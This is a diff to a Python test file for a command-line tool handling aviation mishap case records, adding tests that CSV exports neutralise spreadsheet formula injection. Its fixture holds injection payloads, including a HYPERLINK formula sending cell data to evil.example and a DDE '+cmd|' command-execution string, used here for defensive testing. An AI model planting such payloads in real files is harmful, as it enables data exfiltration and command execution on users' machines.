@@ -33,6 +33,7 @@ ROW = {
 
 
 def test_a_row_becomes_a_whole_case(runner, tmp_path) -> None:
+    assert runner("init", "--empty").exit_code == 0  # only init creates a named database
     path = write_csv(tmp_path / "cases.csv", [ROW])
     assert runner("import", path).exit_code == 0
     case = json.loads(runner("show", ROW["id"], "--format", "json").stdout)
@@ -133,6 +134,74 @@ def test_aircraft_count_must_match(runner, tmp_path) -> None:
     assert result.stderr.splitlines()[0] == (
         f"{path}:2: {ROW['id']}: aircraft: aircraft_count is 3 but 2 aircraft are listed"
     )
+
+
+# --- formula injection (issue 11, item 9) ------------------------------------------------------
+
+HOSTILE = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "operation": "+cmd|' /C calc'!A0",
+    "service": "@SUM(1+1)",
+    "summary": "-2+3 is what the cell shows",
+    "notes": "'quoted already",
+}
+
+
+def test_csv_export_neutralises_formulas_and_imports_back_unchanged(
+    runner, fresh_db, tmp_path
+) -> None:
+    good = Path(__file__).parent / "good_case.yaml"
+    text = good.read_text(encoding="utf-8")
+    text = text.replace("title: KC-135R and F-16C touch during contact\n", "")
+    text = text.replace("service: USAF\n", "")
+    text = text.replace("summary: The receiver struck the boom during contact.\n", "")
+    for key, value in HOSTILE.items():
+        text += f"{key}: {json.dumps(value)}\n"
+    text = text.replace(
+        "    text: The receiver closed too fast.", "    text: '=1+2 closed too fast.'"
+    )
+    case_file = tmp_path / "hostile.yaml"
+    case_file.write_text(text, encoding="utf-8")
+    assert runner("init", "--empty").exit_code == 0
+    assert runner("import", case_file).exit_code == 0
+    exported = runner("export", "--format", "csv").stdout
+    row = next(csv.DictReader(io.StringIO(exported)))
+    for key, value in HOSTILE.items():
+        if key in row:
+            assert row[key] == "'" + value, key
+    assert row["causes"] == "'=1+2 closed too fast."
+    assert row["longitude"] == "-90.25"  # a number stays a number
+    assert row["latitude"] == "27.5"
+    for cell in (c for r in csv.reader(io.StringIO(exported)) for c in r):
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell == "-90.25"
+    original = runner("export", "--format", "json").stdout
+    path = tmp_path / "back.csv"
+    path.write_text(exported, encoding="utf-8")
+    fresh = tmp_path / "fresh.db"
+    assert runner("--db", fresh, "init", "--empty").exit_code == 0
+    assert runner("--db", fresh, "import", path).exit_code == 0
+    back = json.loads(runner("--db", fresh, "export", "--format", "json").stdout)["mishaps"][0]
+    mine = json.loads(original)["mishaps"][0]
+    for key in ("title", "operation", "service", "summary"):
+        assert back[key] == mine[key] == HOSTILE[key], key
+    assert back["findings"][0]["text"] == "=1+2 closed too fast."
+    assert runner("--db", fresh, "export", "--format", "csv").stdout == exported
+
+
+def test_list_and_stats_csv_neutralise_formulas_too(runner, fresh_db, tmp_path) -> None:
+    good = Path(__file__).parent / "good_case.yaml"
+    text = good.read_text(encoding="utf-8").replace(
+        "title: KC-135R and F-16C touch during contact", "title: '=cmd()'"
+    )
+    (tmp_path / "c.yaml").write_text(text.replace("service: USAF", "service: '@x'"))
+    assert runner("init", "--empty").exit_code == 0
+    assert runner("import", tmp_path / "c.yaml").exit_code == 0
+    listed = next(csv.DictReader(io.StringIO(runner("list", "-f", "csv").stdout)))
+    assert (listed["title"], listed["service"]) == ("'=cmd()", "'@x")
+    stats = list(
+        csv.DictReader(io.StringIO(runner("stats", "--by", "service", "-f", "csv").stdout))
+    )
+    assert stats[0]["key"] == "'@x"
 
 
 def test_the_csv_field_table_reads_back_what_it_writes() -> None:
